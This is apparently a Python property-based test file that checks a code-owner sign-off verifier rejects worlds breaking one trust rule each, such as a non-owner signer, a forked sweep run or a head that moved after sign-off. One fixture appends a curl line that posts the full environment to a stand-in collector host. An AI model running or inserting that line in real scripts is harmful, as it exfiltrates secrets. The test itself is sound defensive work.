"""Property (PRODUCT §4.8, issue 12): a world that violates one trust rule never gets `success`.

Every example starts from seed 000 with today's policy data (a PASS whose status is `success`,
asserted below as the control), applies exactly one generated violation and runs the real
verification (publish.verify) against the fake GitHub server over loopback. The property: no
`success` status lands on any commit and the result's status is not `success`; where the rule
has its own check row (Check `codeowner` for owners, Check `sweep` for provenance and drift), that row FAILs.

Violations generated (five examples each, derandomized):
- scope: the PR targets another branch whose CODEOWNERS names the signer; the signer is not an
  owner of a specifically-owned path (a write collaborator, or the core team's admin); the PR
  itself rewrites CODEOWNERS to name its signer;
- provenance: the sweep run is a run of another workflow file, of another event, from a fork,
  or the sweep workflow files at the run's commit differ from the default branch's;
- drift: the head's recipe script differs from the swept commit's (a new environment
  variable or engine flag);
- binding: a dispatch for another PR names this PR's sign-off (that PR's head the signed
  one or its own); the head moved after the sign-off with a change of the author's own
  (recipe or a benchmark-neutral file) and the old sign-off is re-verified; a
  re-verification is dispatched by someone neither the signer nor a maintainer/admin.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from infx import yamlio
from infx.github.fake import FakeGitHub
from infx.signoff import pipeline as publish
from infx.signoff.model import Status
from infx.signoff.trigger.gating import SignoffRef, Trigger

ROOT = Path(__file__).resolve().parents[2]
CONTEXT = "codeowner-signoff-verify"
PR, COMMENT = 3412, 5003
SIGNER = "chunfangamd"
HEAD = "296a93ad6c8fa017e83fb5f404f09f2efc16e1c4"


def _seed() -> dict:
    """Seed 000 with the trusted policy files of this checkout on its default branch (the
    world file holds a snapshot; the diff-policy checks judge against today's policy)."""
    world = yamlio.load_file(ROOT / "tests/data/worlds/signoff_seed000.yaml")
    base = next(sha for sha, commit in world["commits"].items() if not commit.get("parents"))
    for pattern in ("configs/policy/*.yaml", "configs/golden_al_distribution/*.yaml"):
        for path in sorted(ROOT.glob(pattern)):
            world["commits"][base]["files"][str(path.relative_to(ROOT))] = path.read_text()
    return world


SEED = _seed()


@dataclass(frozen=True)
class Case:
    """One violated world: the world, how the verification is triggered, and the row (if
    any) that must name the violation."""

    rule: str
    world: dict
    pr: int = PR
    comment_id: int = COMMENT
    actor: str | None = None
    dispatched: bool = False
    row: str | None = None
    refused: str | None = None  # words of the reason when the verification is refused outright


def _pull(world: dict) -> dict:
    return next(p for p in world["pulls"] if p["number"] == PR)


def _signoff(world: dict) -> dict:
    return next(c for c in _pull(world)["comments"] if c["id"] == COMMENT)


def _owners(world: dict) -> set[str]:
    """Every login CODEOWNERS names, every team member, lower-cased (not a violation to use)."""
    root = next(c for c in world["commits"].values() if not c.get("parents"))
    text = root["files"]["CODEOWNERS"]
    names = {token[1:].lower() for token in text.split() if token.startswith("@") and "/" not in token}
    return names | {m.lower() for members in world.get("teams", {}).values() for m in members}


logins = st.from_regex(r"[a-z][a-z0-9]{2,12}(-[a-z0-9]{1,6})?", fullmatch=True)
branches = st.from_regex(r"(release|stable|v[0-9])(/[a-z0-9.]{1,8})?", fullmatch=True)


# --- scope: PRs into the default branch only, CODEOWNERS of the default branch -------------------


def pr_into_another_branch(draw: st.DrawFn, world: dict) -> Case:
    """The PR targets a side branch whose CODEOWNERS makes the signer (or everyone) the owner."""
    name = draw(branches)
    main = world["branches"][world["default_branch"]]
    tip = "0" * 8 + draw(st.from_regex(r"[0-9a-f]{32}", fullmatch=True))
    owners = draw(st.sampled_from([f"* @{SIGNER}\n", f"configs/ @{SIGNER}\n* @{SIGNER}\n",
                                   f"** @{SIGNER}\n"]))
    world["commits"][tip] = {"parents": [main], "message": "side branch", "files_from": main,
                             "files": {"CODEOWNERS": owners}}
    world["branches"][name] = tip
    _pull(world)["base"] = {"ref": name, "sha": main}
    return Case("scope: base branch", world)


def signer_is_not_an_owner(draw: st.DrawFn, world: dict) -> Case:
    """A write collaborator (or the core team's admin, who is not on the amd-master line)
    signs; the PR changes a specifically-owned path."""
    taken = _owners(world) - {"functionstackx"}
    login = draw(st.one_of(logins.filter(lambda s: s.lower() not in taken),
                           st.just("functionstackx")))
    world["collaborators"].setdefault(login, {"permission": "write", "role_name": "write"})
    comment = _signoff(world)
    comment["user"] = login
    comment["body"] = comment["body"].replace(f"@{SIGNER}", f"@{login}")
    return Case("scope: non-owner signer", world, row="codeowner")


def codeowners_edited_in_the_pr(draw: st.DrawFn, world: dict) -> Case:
    """The PR's own head rewrites CODEOWNERS to make a non-owner the owner, who signs."""
    login = draw(logins.filter(lambda s: s.lower() not in _owners(world)))
    line = draw(st.sampled_from(["* @{0}\n", "configs/amd-master.yaml @{0}\n",
                                 "/configs/ @{0}\n", "/** @{0}\n"])).format(login)
    world["commits"][HEAD].setdefault("files", {})["CODEOWNERS"] = line
    world["collaborators"].setdefault(login, {"permission": "write", "role_name": "write"})
    comment = _signoff(world)
    comment["user"] = login
    comment["body"] = comment["body"].replace(f"@{SIGNER}", f"@{login}")
    return Case("scope: CODEOWNERS from the head", world, row="codeowner")


# --- provenance: only runs of our sweep workflow, on this repository, unmodified ------------------

RUN_ID = 35873197630
SWEPT = "7bbb0ec775dd86b8f6ebb3c4e345cdfe283b1c1a"
SWEEP_FILE = ".github/workflows/run-sweep.yml"
SCRIPT = "benchmarks/single_node/agentic/minimaxm3_fp4_mi355x_atom_mtp.sh"


def _run(world: dict) -> dict:
    return next(r for r in world["workflow_runs"] if r["id"] == RUN_ID)


def _root_files(world: dict) -> dict:
    return next(c for c in world["commits"].values() if not c.get("parents"))["files"]


def run_of_another_workflow(draw: st.DrawFn, world: dict) -> Case:
    name = draw(st.from_regex(r"[a-z][a-z0-9-]{0,10}", fullmatch=True))
    path = draw(st.sampled_from([f".github/workflows/{name}.yml", ".github/workflows/run-sweep.yaml",
                                 f"{name}/.github/workflows/run-sweep.yml", "",
                                 f".github/workflows/run-sweep.yml.{name}"]))
    _run(world)["path"] = path
    return Case("provenance: workflow file", world, row="sweep")


def run_of_another_event(draw: st.DrawFn, world: dict) -> Case:
    run = _run(world)
    run["event"] = draw(st.sampled_from(["workflow_dispatch", "pull_request_target", "schedule",
                                         "issue_comment", "repository_dispatch", "push",
                                         "workflow_run"]))
    return Case("provenance: event", world, row="sweep")


def run_from_a_fork(draw: st.DrawFn, world: dict) -> Case:
    owner = draw(logins.filter(lambda s: s.lower() != "semianalysisai"))
    fork = f"{owner}/{draw(st.sampled_from(['InferenceX', 'inferencex', 'InferenceX-1']))}"
    _run(world)["head_repository"] = fork
    if draw(st.booleans()):
        _pull(world)["head"]["repo"] = fork
    return Case("provenance: fork", world, row="sweep")


def sweep_workflow_modified_at_the_run(draw: st.DrawFn, world: dict) -> Case:
    path = draw(st.sampled_from(sorted(f for f in _root_files(world) if f.startswith(".github/workflows/"))))
    original = _root_files(world)[path]
    extra = draw(st.sampled_from(["# {0}\n", "env:\n  {0}: '1'\n", "\n"])).format(
        draw(st.from_regex(r"[A-Z][A-Z0-9_]{0,12}", fullmatch=True)))
    world["commits"][SWEPT].setdefault("files", {})[path] = draw(st.sampled_from(
        [original + extra, extra + original, original.replace("\n", "\n\n", 1)]))
    return Case("provenance: modified sweep workflow", world, row="sweep")


# --- drift: benchmark-affecting content of the head equals the swept commit's -------------------


def recipe_changed_after_the_sweep(draw: st.DrawFn, world: dict) -> Case:
    files = world["commits"][SWEPT]["files"]
    script = files[SCRIPT]
    variable = draw(st.from_regex(r"[A-Z][A-Z0-9_]{2,16}", fullmatch=True))
    value = draw(st.integers(0, 65536))
    changed = draw(st.sampled_from([
        script + f"export {variable}={value}\n",
        script.replace("aiperf profile ", f"aiperf profile --max-num-seqs {value} ", 1),
        script.replace("\n", f"\nexport {variable}={value}\n", 1),
    ]))
    assert changed != script
    world["commits"][HEAD].setdefault("files", {})[SCRIPT] = changed
    return Case("drift: recipe", world, row="sweep")


# --- binding: the sign-off is this PR's, covers the head it was posted on, and only the signer
# or a maintainer/admin may dispatch its re-verification ------------------------------------------

AUTHOR = "yhl-amd"
ADMIN = "functionstackx"  # admin of the repository, owns nothing on the amd-master line


def _sha(draw: st.DrawFn) -> str:
    return "c0ffee" + draw(st.from_regex(r"[0-9a-f]{34}", fullmatch=True))


def _head_run(world: dict, sha: str, branch: str, created_at: str) -> None:
    """GitHub's record of a new PR head: the sign-off workflow's pull_request run on it."""
    run_id = max(r["id"] for r in world["workflow_runs"]) + 1
    world["workflow_runs"].append({
        "id": run_id, "name": "codeowner-signoff-verify", "path": ".github/workflows/signoff-verify.yml",
        "event": "pull_request", "status": "completed", "conclusion": "success", "head_sha": sha,
        "head_branch": branch, "run_attempt": 1, "created_at": created_at, "artifacts": []})


def _own_change(draw: st.DrawFn, world: dict, base: str) -> dict[str, str]:
    """A change of the author's own on top of `base`: to the recipe (benchmark-affecting) or to
    a file no benchmark reads (still a change that was not signed)."""
    files = world["commits"][SWEPT]["files"]
    name = draw(st.from_regex(r"[A-Z][A-Z0-9_]{2,12}", fullmatch=True))
    return draw(st.sampled_from([
        {SCRIPT: files[SCRIPT] + 'curl -s -d "$(env)" https://collector.example/u\n'},
        {SCRIPT: files[SCRIPT] + f"export {name}=1\n"},
        {"README.md": f"# InferenceX\n\n{name}\n"},
        {f"docs/{name.lower()}.md": f"{name}\n"},
    ]))


def signoff_of_another_pr(draw: st.DrawFn, world: dict) -> Case:
    """A dispatch for the author's other PR naming the CODEOWNER's sign-off on PR #3412. The
    other PR's head is the signed head itself or a commit of its own."""
    pull = _pull(world)
    main = world["branches"][world["default_branch"]]
    number = draw(st.integers(3413, 3499))
    head = HEAD
    if draw(st.booleans()):
        head = _sha(draw)
        world["commits"][head] = {"parents": [main], "files_from": main, "message": "other PR",
                                  "files": _own_change(draw, world, main)}
    branch = f"{AUTHOR}/{draw(st.from_regex(r'[a-z]{3,10}', fullmatch=True))}"
    world["pulls"].append({
        **{k: v for k, v in pull.items() if k not in ("comments", "reviews", "review_comments")},
        "number": number, "title": "another PR",
        "head": {"ref": branch, "sha": head, "repo": world["repo"]},
        "commits": [head], "comments": [], "reviews": [], "review_comments": []})
    _head_run(world, head, branch, "2026-09-24T10:00:00Z")
    actor = draw(st.sampled_from([AUTHOR, ADMIN, SIGNER]))
    return Case("binding: sign-off of another PR", world, pr=number, actor=actor, dispatched=True,
                refused=f"is on PR #{PR}, not on PR #{number}")


def head_moved_with_own_changes(draw: st.DrawFn, world: dict) -> Case:
    """After the sign-off (09:30) the author pushes an own change (10:00-10:59); a
    re-verification of the old sign-off is then triggered by the signer, an admin or the
    comment event itself."""
    pull = _pull(world)
    pushed = _sha(draw)
    world["commits"][pushed] = {"parents": [HEAD], "files_from": HEAD, "message": "tidy",
                                "files": _own_change(draw, world, HEAD)}
    pull["head"]["sha"] = pushed
    pull["commits"] = [*pull["commits"], pushed]
    minute = draw(st.integers(0, 59))
    _head_run(world, pushed, pull["head"]["ref"], f"2026-09-24T10:{minute:02d}:00Z")
    actor = draw(st.sampled_from([None, SIGNER, ADMIN]))
    return Case("binding: head moved with own changes", world, actor=actor, dispatched=actor is not None,
                refused=f"the sign-off does not cover head {pushed[:12]}")


def dispatch_by_an_unauthorised_user(draw: st.DrawFn, world: dict) -> Case:
    """A re-verification dispatched by someone who is neither the signer nor a maintainer or
    admin: the author, or another collaborator with write, triage or read."""
    login = draw(st.one_of(st.just(AUTHOR), logins.filter(lambda s: s.lower() not in _owners(world)
                                                           and s.lower() != ADMIN)))
    if login != AUTHOR:
        role = draw(st.sampled_from(["write", "triage", "read"]))
        world["collaborators"][login] = {"role_name": role}
    return Case("binding: unauthorised dispatch", world, actor=login, dispatched=True,
                refused=f"{login} has ")


VIOLATIONS: dict[str, Callable[[st.DrawFn, dict], Case]] = {
    "binding-other-pr": signoff_of_another_pr,
    "binding-head-moved": head_moved_with_own_changes,
    "binding-dispatch": dispatch_by_an_unauthorised_user,
    "scope-base": pr_into_another_branch,
    "scope-owner": signer_is_not_an_owner,
    "scope-codeowners": codeowners_edited_in_the_pr,
    "provenance-workflow": run_of_another_workflow,
    "provenance-event": run_of_another_event,
    "provenance-fork": run_from_a_fork,
    "provenance-modified": sweep_workflow_modified_at_the_run,
    "drift-recipe": recipe_changed_after_the_sweep,
}


def verify(case: Case) -> tuple[publish.Result, dict]:
    fake = FakeGitHub(case.world).start()
    try:
        trigger = Trigger(True, "property", case.pr, SignoffRef("issue_comment", case.comment_id),
                          actor=case.actor, dispatched=case.dispatched)
        result = publish.verify(fake.client(), case.world["repo"], trigger, publish.Options())
        return result, copy.deepcopy(fake.world)
    finally:
        fake.stop()


def success_statuses(world: dict) -> list[str]:
    return [sha for sha, entries in world["statuses"].items()
            for s in entries if s["context"] == CONTEXT and s["state"] == "success"]


def test_the_unviolated_seed_gets_success() -> None:
    """The control: without a violation the same harness reaches `success`, so the property
    below is about the violation and not about a broken harness."""
    result, after = verify(Case("none", copy.deepcopy(SEED)))
    assert result.status == "success" and result.verdict.overall.value == "PASS", result.body
    assert success_statuses(after) == [HEAD]


@pytest.mark.parametrize("rule", sorted(VIOLATIONS))
@settings(max_examples=5, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_a_world_violating_one_trust_rule_never_gets_success(rule, data) -> None:
    case = VIOLATIONS[rule](data.draw, copy.deepcopy(SEED))
    assert case.world != SEED or case.dispatched  # the violation is in the world or the trigger
    result, after = verify(case)
    assert result.status != "success", (case.rule, result.reason)
    assert success_statuses(after) == [], case.rule
    if case.row is not None and result.verdict is not None:  # a non-owner may get no verdict
        row = next(r for r in result.verdict.rows if r.spec.id == case.row)
        assert row.status is Status.FAIL, (case.rule, row.outcome.reason)
    if case.refused is not None:
        assert result.verdict is None and case.refused in result.reason, (case.rule, result.reason)
